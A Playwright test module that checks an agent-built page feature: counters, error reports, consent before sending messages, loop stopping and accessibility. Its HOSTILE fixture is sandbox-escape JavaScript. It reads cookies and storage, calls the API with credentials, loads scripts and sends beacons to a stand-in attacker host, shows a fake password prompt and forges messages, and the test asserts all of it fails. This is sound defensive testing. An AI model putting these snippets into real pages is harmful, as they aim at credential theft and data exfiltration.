"""Pages that an agent makes, in a real browser: what they can do, and what none of them can."""

import re
import socket
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, Self

import pytest
from playwright.sync_api import Frame, FrameLocator, Page, expect

from foldline.cli.client import Gateway
from foldline.cli.sessions.turns import ChatTurn
from foldline_testing.product.browser import WatchedPage, accessibility_faults, keep_look
from foldline_testing.product.chat_page import ChatPage
from foldline_testing.product.model_server import ModelServer
from foldline_testing.product.reading import messages
from foldline_testing.product.stack import Stack

pytestmark = pytest.mark.browser

NewPage = Callable[..., WatchedPage]
AGENT = "pages"

COUNTER = """export default function Counter({ unit = "times" }: { unit?: string }) {
  const [count, setCount] = useAgentState<number>("clicks", 0);
  const [half, setHalf] = useState("");
  return (
    <Card title="Counter">
      <p>Clicked {count} {unit}</p>
      <Stack direction="horizontal" gap={2}>
        <Button onClick={() => setCount((before) => before + 1)}>Click</Button>
        <Button onClick={async () => setHalf(`is ${await callBackend("half", { n: count })}`)}>
          Half
        </Button>
        <Button variant="secondary" onClick={() => sendMessage("noted clicks: " + count)}>Tell</Button>
      </Stack>
      <p>Half {half}</p>
    </Card>
  );
}
"""
IN_OTHER_WORDS = COUNTER.replace("times", "x")
HALF = {
    "name": "half",
    "description": "Half of n.",
    "parameter_schema": {"type": "object", "properties": {"n": {"type": "number"}}},
    "code": "return args.n / 2",
}
THROWS = """export default function Thrower() {
  const [on, setOn] = useState(false);
  if (on) {
    throw new TypeError("the wheel came off");
  }
  return <Button onClick={() => setOn(true)}>Turn</Button>;
}
"""
WHOLE = """export default () => <Form onSubmit={(event) => sendMessage("sent by the form")}>
  <TextInput label="Name" required defaultValue="x" />
  <Button type="submit">Submit</Button>
</Form>;
"""
SAYS = """export default function Says() {
  const [answer, setAnswer] = useState("nothing yet");
  useEffect(() => {
    sendMessage("nobody asked for this").then(() => setAnswer("said"), (error) => setAnswer(error.message));
  }, []);
  return <p>Answer: {answer}</p>;
}
"""
HOSTILE = """const outside = "EVIL";
const tried = async (name, attempt) => {
  try {
    return [name, "did " + String(await attempt()).slice(0, 60)];
  } catch (error) {
    return [name, "failed " + (error?.name ?? error)];
  }
};
const loads = (element) => new Promise((resolve, reject) => {
  element.onload = () => resolve("load");
  element.onerror = () => reject(new Error("not loaded"));
  document.body.append(element);
});
const attempts = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  "parent document": () => parent.document.title,
  "parent global": () => parent.fetch,
  "top location": () => top.location.href,
  "top navigation": () => { top.location.href = outside + "/top"; },
  "frame's own rules": () => { window.frameElement.removeAttribute("sandbox"); },
  "api": () => fetch(new URL("api/v1/agents", location.href).href, { credentials: "include" }),
  fetch: () => fetch(outside + "/fetch", { mode: "no-cors" }),
  image: () => loads(Object.assign(new Image(), { src: outside + "/image" })),
  script: () => loads(Object.assign(document.createElement("script"), { src: outside + "/script.js" })),
  "inline script": () => {
    document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 1" }));
    if (!window.ran) throw new Error("not run");
  },
  module: () => new Function("address", "return import(address)")(outside + "/module.js"),
  websocket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(outside.replace("http", "ws"));
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error("refused"));
  }),
  webrtc: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }),
  "webrtc of a frame within": () => {
    const inner = document.createElement("iframe");
    document.body.append(inner);
    return new inner.contentWindow.RTCPeerConnection();
  },
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = resolve;
    worker.onerror = () => reject(new Error("refused"));
  }),
  popup: () => { if (!window.open(outside + "/popup")) throw new Error("refused"); },
  alert: () => { if (confirm("Your password?") === false) throw new Error("refused"); },
  form: () => {
    const form = Object.assign(document.createElement("form"), { action: outside + "/form" });
    document.body.append(form);
    form.submit();
    return new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came of it")), 500));
  },
};
const flood = () => {
  for (let n = 0; n < 2000; n += 1) parent.postMessage('{"kind":"alive"}', "*");
};
export default function Hostile() {
  const [results, setResults] = useState([]);
  useEffect(() => {
    navigator.sendBeacon(outside + "/beacon", "x");
    const hint = Object.assign(document.createElement("link"), { rel: "prefetch", href: outside + "/hint" });
    document.head.append(hint);
    Promise.all(Object.entries(attempts).map(([name, attempt]) => tried(name, attempt))).then(setResults);
  }, []);
  return (
    <>
      <ul>{results.map(([name, what]) => <li key={name}>{name}: {what}</li>)}</ul>
      {results.length > 0 && <p>All tried</p>}
      <Button onClick={() => { location.href = outside + "/leave?secret"; }}>Leave</Button>
      <Button onClick={flood}>Flood</Button>
      <Button onClick={() => parent.postMessage({ kind: "token?" }, "*")}>Forge</Button>
    </>
  );
}
"""
LOOP = """export default function Loop() {
  const spin = () => setTimeout(() => { for (;;); }, 300);
  return <Button onClick={spin}>Spin</Button>;
}
"""
ALL = """export default function All() {
  const [show, setShow] = useState(false);
  return (
    <Grid columns={2}>
      <Card title="Fields" footer="Below">
        <Form>
          <TextInput label="Name" placeholder="Who?" />
          <Select label="Colour" options={["red", { value: "b", label: "blue" }]} />
          <DatePicker label="Day" defaultValue="2026-07-31" />
          <Toggle label="On" defaultChecked />
        </Form>
        <Button onClick={() => setShow(true)}>Open</Button>
        <Modal show={show} onHide={() => setShow(false)} title="A dialog">Inside</Modal>
      </Card>
      <Card>
        <Alert>Careful <Badge variant="dark">new</Badge> <Icon name="check" label="done" /></Alert>
        <Table columns={["name", { key: "n", label: "Number" }]} rows={[{ name: "one", n: 1 }]} />
        <Tabs
          tabs={[
            { title: "First", content: <Markdown text="**bold** text" /> },
            { title: "Second", content: "2" },
          ]}
        />
        <CodeBlock code="let a = 1" />
        <Spinner />
      </Card>
      <Chart type="bar" title="Sales" labels={["May", "June"]} values={[3, 5]} />
    </Grid>
  );
}
"""


def calls(words: str, *calls: tuple[str, dict[str, Any]]) -> dict[str, Any]:
    """A rule: a message with these words makes the model call tools, one after another."""
    turns = [{"tool_calls": [{"name": name, "arguments": arguments}]} for name, arguments in calls]
    return {"when": {"user_contains": words}, "turns": [*turns, {"text": "Done."}]}


def page(name: str, code: str) -> tuple[str, dict[str, Any]]:
    return "create_ui_component", {"name": name, "description": f"{name}, for a test.", "code": code}


SCRIPT = {
    "rules": [
        calls("make the counter", ("create_function", HALF), page("Counter", COUNTER)),
        calls("count to seven", ("set_state", {"key": "clicks", "value": 7})),
        calls("other words", ("update_ui_component", {"name": "Counter", "code": IN_OTHER_WORDS})),
        calls("remove the counter", ("delete_ui_component", {"name": "Counter"})),
        calls("make the thrower", page("Thrower", THROWS)),
        calls("mend it", ("update_ui_component", {"name": "Thrower", "code": WHOLE})),
        calls("make all", page("All", ALL)),
        calls("make it say", page("Says", SAYS)),
        calls("make the loop", page("Loop", LOOP)),
        {"reply": {"text": "You said: {{ last_user }}"}},
    ]
}


@pytest.fixture(scope="module")
def agent(stack: Stack, door: Gateway) -> str:
    """An agent of this module's own."""
    door.post("/agents", {"id": AGENT, "name": "Pages"})
    return AGENT


@pytest.fixture
def session(door: Gateway, agent: str) -> str:
    """A session of it, in which nothing was said."""
    return str(door.post("/sessions", {"agent_id": agent, "token_limit": 10_000_000})["id"])


def say(door: Gateway, session: str, text: str) -> None:
    """Say something, and wait until the agent is done."""
    turn = ChatTurn(door, session)
    turn.say(text)
    for _ in turn.pieces():
        pass
    assert turn.status == "idle"


def said(door: Gateway, session: str) -> list[str]:
    return [message["text"] for message in messages(door, session) if message["role"] == "user"]


def frame(page: Page) -> FrameLocator:
    return page.frame_locator("iframe.page-frame")


def inside(page: Page) -> Frame:
    """The frame itself, for what a locator can't do."""
    return next(one for one in page.frames if one.url.endswith("page-frame.html"))


def faults_inside(page: Page, axe: Path) -> list[str]:
    """What is wrong in the frame; its heading of the first level is the shell's."""
    return [fault for fault in accessibility_faults(inside(page), axe) if "page-has-heading-one" not in fault]


def eventually(holds: Callable[[], bool], what: str) -> None:
    """Return as soon as it holds."""
    deadline = time.monotonic() + 60
    while not holds():
        assert time.monotonic() < deadline, what
        time.sleep(0.1)


@pytest.fixture
def opened(stack: Stack, new_page: NewPage, session: str) -> Callable[[str], WatchedPage]:
    """Opens a page of the agent by its address, beside the session, signed in."""

    def at(name: str) -> WatchedPage:
        watched = new_page(stack.url)
        watched.page.goto(stack.link)
        watched.page.goto(f"{stack.url}/#/s/{session}/pages/{AGENT}/{name}")
        return watched

    return at


class Listener:
    """A server that hears whoever connects: `heard` are the first bytes that each sent."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._listen)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *raised: object) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as last:
            last.sendall(b"stop")
        self._thread.join(60)
        self._socket.close()

    def _listen(self) -> None:
        while True:
            connection, _ = self._socket.accept()
            with connection:
                connection.settimeout(2)
                try:
                    said = connection.recv(1000)
                except TimeoutError:
                    said = b""
            if said == b"stop":
                return
            if said:
                self.heard.append(said)


def test_a_page_made_in_the_chat_is_a_tab_that_lives(
    stack: Stack, door: Gateway, new_page: NewPage, session: str, screenshots: Path, axe: Path
) -> None:
    watched = new_page(stack.url)
    chat = ChatPage(watched.page, screenshots)
    chat.open(stack.link)
    chat.open(f"{stack.url}/#/s/{session}")
    tabs = chat.page.get_by_role("navigation", name="Chat, history and pages")
    chat.say("make the counter")
    expect(chat.answers.last).to_contain_text("Done.")
    tabs.get_by_role("link", name="Counter").click()
    shown = frame(chat.page)
    expect(shown.get_by_text("Clicked 0 times")).to_be_visible()

    say(door, session, "count to seven")
    expect(shown.get_by_text("Clicked 7 times")).to_be_visible()
    shown.get_by_role("button", name="Click").click()
    expect(shown.get_by_text("Clicked 8 times")).to_be_visible()
    eventually(lambda: door.get(f"/agents/{AGENT}/state/clicks")["value"] == 8, "the click is stored")
    shown.get_by_role("button", name="Half").click()
    expect(shown.get_by_text("Half is 4")).to_be_visible()
    chat.shot("page-counter")
    assert accessibility_faults(chat.page, axe) == []
    assert faults_inside(chat.page, axe) == []

    say(door, session, "other words")
    expect(shown.get_by_text("Clicked 8 x")).to_be_visible()
    chat.page.reload()
    expect(shown.get_by_text("Clicked 8 x")).to_be_visible()
    shown.get_by_role("button", name="Tell").click()
    expect(chat.page.get_by_text("Sent.")).to_be_visible()
    assert "noted clicks: 8" in said(door, session)

    say(door, session, "remove the counter")
    expect(tabs.get_by_role("link", name="Counter")).to_have_count(0)
    expect(chat.page.get_by_text("This page doesn't exist, or it was deleted.")).to_be_visible()
    watched.forgive("404")  # a key of the state, read before there was one


def test_what_a_page_throws_is_shown_at_its_line_and_told_to_the_agent(
    door: Gateway, session: str, opened: Callable[[str], WatchedPage], screenshots: Path, axe: Path
) -> None:
    say(door, session, "make the thrower")
    watched = opened("Thrower")
    page = watched.page
    frame(page).get_by_role("button", name="Turn").click()
    report = page.get_by_role("alert", name="Error of the page")
    expect(report).to_contain_text("TypeError: the wheel came off at line 4")
    report.get_by_role("button", name="Show source").click()
    expect(report.locator("[aria-current=location]")).to_contain_text(
        'throw new TypeError("the wheel came off")'
    )
    keep_look(page, screenshots / "page-error.png")
    assert accessibility_faults(page, axe) == []
    report.get_by_role("button", name="Send error to the agent").click()
    expect(page.get_by_text("Sent.")).to_be_visible()
    told = said(door, session)[-1]
    assert 'Your page "Thrower" (version 1) threw an error (line 4): TypeError: the wheel came off' in told
    report.get_by_role("button", name="Dismiss").click()
    expect(report).to_be_hidden()
    watched.forgive("the wheel came off")

    say(door, session, "mend it")
    frame(page).get_by_role("textbox", name="Name").press("Enter")
    expect(page.get_by_text("Sent.").or_(page.get_by_role("alertdialog"))).to_be_visible()
    if page.get_by_role("alertdialog").is_visible():
        page.get_by_role("alertdialog").get_by_role("button", name="Send").click()
        expect(page.get_by_text("Sent.")).to_be_visible()
    assert said(door, session)[-1] == "sent by the form"


def test_a_page_says_nothing_by_itself(
    door: Gateway, session: str, opened: Callable[[str], WatchedPage], screenshots: Path
) -> None:
    say(door, session, "make it say")
    page = opened("Says").page
    wish = page.get_by_role("alertdialog", name="The page wants to say something")
    expect(wish).to_contain_text("nobody asked for this")
    keep_look(page, screenshots / "page-wish.png")
    wish.get_by_role("button", name="Don't").click()
    expect(frame(page).get_by_text("Answer: The user did not agree to this message.")).to_be_visible()
    assert said(door, session) == ["make it say"]


@pytest.mark.faults
def test_a_hostile_page_gets_nothing_and_nowhere(
    door: Gateway,
    model: ModelServer,
    session: str,
    opened: Callable[[str], WatchedPage],
    screenshots: Path,
) -> None:
    with Listener() as evil:
        code = HOSTILE.replace("EVIL", f"http://127.0.0.1:{evil.port}").replace("PORT", str(evil.port))
        model.play({"rules": [calls("make it hostile", page("Hostile", code)), *SCRIPT["rules"]]})
        say(door, session, "make it hostile")
        watched = opened("Hostile")
        shown = frame(watched.page)
        expect(shown.get_by_text("All tried")).to_be_visible()
        results = shown.get_by_role("listitem").all_inner_texts()
        keep_look(watched.page, screenshots / "page-hostile.png")
        assert len(results) == len(re.findall(r"^  \S.*: \(\) =>", HOSTILE, re.MULTILINE))
        assert [result for result in results if ": failed" not in result] == []

        stopped = watched.page.get_by_role("alert").filter(has_text="The page was stopped.")
        for deed, why in (
            ("Leave", "It tried to leave for another address."),
            ("Flood", "It sent more messages than any page needs."),
            ("Forge", "It sent a message that no page sends."),
        ):
            shown.get_by_role("button", name=deed).click()
            expect(stopped).to_contain_text(why)
            expect(watched.page.locator("iframe")).to_have_count(0)
            stopped.get_by_role("button", name="Start again").click()
            expect(shown.get_by_text("All tried")).to_be_visible()
        watched.forgive("")
    assert evil.heard == []


@pytest.mark.faults
def test_a_page_in_an_endless_loop_is_stopped(
    door: Gateway, session: str, opened: Callable[[str], WatchedPage], screenshots: Path
) -> None:
    say(door, session, "make the loop")
    page = opened("Loop").page
    frame(page).get_by_role("button", name="Spin").click()
    page.get_by_role("button", name="Stop page").click()
    expect(page.get_by_text("You stopped it.")).to_be_visible()
    keep_look(page, screenshots / "page-stopped.png")
    page.get_by_role("button", name="Start again").click()
    expect(frame(page).get_by_role("button", name="Spin")).to_be_visible()


def test_every_component_is_accessible_and_fits(
    stack: Stack, door: Gateway, session: str, new_page: NewPage, screenshots: Path, axe: Path
) -> None:
    say(door, session, "make all")
    for width, scheme in ((380, "dark"), (1200, "light")):
        page = new_page(stack.url, width=width, scheme=scheme).page
        page.goto(stack.link)
        page.goto(f"{stack.url}/#/s/{session}/pages/{AGENT}/All")
        shown = frame(page)
        expect(shown.get_by_role("img", name="Sales")).to_be_visible()
        keep_look(page, screenshots / f"page-all-{scheme}-{width}.png")
        assert faults_inside(page, axe) == []
        assert inside(page).evaluate("document.documentElement.scrollWidth") <= width
        shown.get_by_role("button", name="Open").click()
        expect(shown.get_by_role("dialog", name="A dialog")).to_contain_text("Inside")
